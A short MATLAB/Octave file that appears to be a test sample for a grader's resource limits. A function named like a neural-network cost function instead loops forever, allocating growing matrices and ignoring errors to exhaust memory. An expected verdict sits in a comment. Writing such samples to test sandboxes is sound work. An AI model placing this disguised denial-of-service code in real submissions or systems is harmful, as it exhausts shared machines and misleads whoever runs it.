% Takes memory bit by bit, and goes on when there is no more.
% Verdict: more memory than it may have | had not returned after | ended
function [J, grad] = nnCostFunction(varargin)
  hoard = {};
  while true
    try
      hoard{end + 1} = ones(1000, 1000 + numel(hoard));
    catch
    end
  end
end
